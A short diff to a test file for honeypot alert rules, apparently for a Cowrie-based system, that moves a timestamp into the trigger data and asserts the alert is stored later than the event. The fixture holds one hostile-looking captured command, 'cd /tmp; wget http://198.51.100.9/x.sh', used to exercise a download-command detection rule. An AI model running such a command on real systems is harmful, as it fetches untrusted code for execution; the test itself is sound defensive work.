@@ -78,9 +78,10 @@ describe("alert rules", () => {
       pot_type: "cowrie",
       event_type: "alert.download-command",
       src_ip: "203.0.113.7",
-      timestamp: at(31),
-      data: { rule: "download-command", severity: "high", count: 1, outputs: ["slack"], trigger: { event_type: "cowrie.command.input", data: { input: "cd /tmp; wget http://198.51.100.9/x.sh" } } },
+      data: { rule: "download-command", severity: "high", count: 1, outputs: ["slack"], trigger: { event_type: "cowrie.command.input", timestamp: at(31), data: { input: "cd /tmp; wget http://198.51.100.9/x.sh" } } },
     });
+    // Raised when Core read the event, days after the time the event names.
+    expect(Date.parse(stored[0].timestamp)).toBeGreaterThan(Date.parse(at(31)));
   });
 
   test("rules over REST: checked (schema, regex, outputs), listed, removed; config rules stay; new values are remembered across restarts", async () => {
